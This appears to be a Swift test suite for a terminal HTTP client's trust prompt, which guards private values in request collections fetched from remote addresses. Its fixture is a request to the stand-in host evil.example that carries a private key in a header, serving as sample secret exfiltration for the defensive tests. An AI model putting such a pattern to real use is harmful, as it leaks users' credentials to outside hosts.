import NetEngine
import TestSupport
import Testing

@testable import Explorer
@testable import TerminalUI
@testable import Workspace

/// The question before a description that was fetched gets a private value, and what comes of the answer.
@Suite struct FetchedTrustScreenTests {
    private let home: TemporaryFolder
    private let trust: TrustStore

    init() throws {
        home = try TemporaryFolder()
        trust = TrustStore(path: home.path + "/state/trust")
        try home.write("### pets\nGET https://evil.example/pets\nX-Key: {{KEY}}\nX-Open: {{open}}\n", to: "c/a.http")
        try home.write(#"{"$shared": {"KEY": "k-123456"}}"#, to: "c/http-client.private.env.json")
        try home.write(#"{"$shared": {"open": "o"}}"#, to: "c/http-client.env.json")
    }

    /// A program with the collection of that folder, as if it was fetched.
    private func opened(from address: String?, overrides: [String: String] = [:]) throws -> Robot {
        let robot = Robot(files: [])
        var folder = try CollectionStore().open(path: home.path + "/c")
        folder.place.address = address.flatMap { WebAddress($0) }
        robot.tell(
            .collectionOpened(
                CollectionOpening(
                    path: home.path + "/c", folder: folder, memory: nil, overrides: overrides, drops: true)))
        robot.effects = []
        return robot
    }

    /// Resolves what was asked for, as the runner does.
    private func resolve(_ robot: Robot) -> [ExchangeID] {
        robot.resolveAll { job in
            let context = SendPreparation(store: CollectionStore(), trust: trust).context(for: job)
            return RequestResolver().resolve(job.request, in: job.file, context: context)
        }
    }

    private func send(_ robot: Robot) -> [ExchangeID] {
        robot.press("s")
        return resolve(robot)
    }

    @Test func `a private value is asked about once for its address, and sent after a yes`() throws {
        let robot = try opened(from: "https://evil.example/openapi.yaml")
        #expect(trust.add(home.path + "/c") == nil)
        #expect(send(robot).isEmpty)
        #expect(
            robot.spoken
                == "Trust this address? | https://evil.example is not trusted. To be sent, pets wants to: | "
                + "  send your private value KEY in requests of https://evil.example (a.http:3) | "
                + "If you trust it, requests of every description that is fetched from there may use your private values, "
                + "logins and certificates, and what a trusted folder may. | "
                + "No script or command in it is run, trusted or not. | "
                + "t Trust the address from now on, and send | > c Do not send")
        robot.press("t")
        let wished = robot.take { if case .trust = $0 { true } else { false } }
        guard case .trust(let subject, let owner, let cache, _)? = wished.first else {
            Issue.record("nothing is trusted")
            return
        }
        #expect(subject.text == "https://evil.example" && trust.add(subject) == nil)
        robot.tell(.trusted(problem: nil, owner: owner, cache: cache))
        #expect(robot.toastText == "https://evil.example is trusted. 'apitui trust remove' takes that back.")
        let id = try #require(resolve(robot).first)
        #expect(robot.sent[id]?.headers["X-Key"] == "k-123456" && robot.sent[id]?.headers["X-Open"] == "o")
        let again = try opened(from: "https://evil.example/other.yaml")
        #expect(send(again).count == 1, "\(again.spoken)")
        let other = try opened(from: "https://evil.example:8443/openapi.yaml")
        #expect(send(other).isEmpty && other.spoken.hasPrefix("Trust this address? | https://evil.example:8443 is not"))
    }

    @Test func `nothing is sent after a no, and what is typed for it is`() throws {
        let robot = try opened(from: "https://evil.example/openapi.yaml")
        #expect(send(robot).isEmpty)
        robot.press("c")
        #expect(robot.spoken == "" && resolve(robot).isEmpty)
        let given = try opened(from: "https://evil.example/openapi.yaml", overrides: ["KEY": "typed"])
        let id = try #require(send(given).first, "\(given.spoken)")
        #expect(given.sent[id]?.headers["X-Key"] == "typed")
        #expect(DiskFile.isMissing(trust.path))
    }

    @Test func `a collection on the disk uses its private values without a question`() throws {
        let robot = try opened(from: nil)
        #expect(send(robot).count == 1, "\(robot.spoken)")
    }
}
